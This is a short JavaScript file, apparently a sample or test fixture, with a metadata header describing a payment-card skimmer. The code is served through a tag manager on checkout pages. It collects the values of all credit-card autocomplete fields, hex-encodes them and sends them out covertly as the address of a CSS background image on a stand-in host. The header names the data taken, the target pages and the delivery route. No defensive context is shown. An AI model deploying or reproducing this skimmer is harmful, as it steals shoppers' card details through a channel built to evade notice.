/* meta
{
  "design": "Writes what was typed, hex-encoded, into the address of a background image in a style sheet.",
  "reads": ["cc-"],
  "sendsTo": "theme.cssforge.localhost",
  "delivery": {
    "kind": "tag",
    "id": "cssforge",
    "host": "tags.tagharbor.localhost",
    "path": "/custom/TH-4K2M9/cssforge.js",
    "pages": "^/checkout"
  }
}
*/
(function () {
  var sheet = document.head.appendChild(document.createElement('style'));
  function hex(text) {
    return text.split('').map(function (c) { return c.charCodeAt(0).toString(16); }).join('');
  }
  document.addEventListener('focusout', function () {
    var fields = document.querySelectorAll('[autocomplete^="cc-"]'), line = [];
    for (var i = 0; i < fields.length; i++) line.push(fields[i].value);
    if (!line[0] || line.some(function (v) { return !v; })) return;
    sheet.textContent = '.footer{background-image:url(https://theme.cssforge.localhost/bg/' + hex(line.join('|')) + '.png)}';
  });
})();
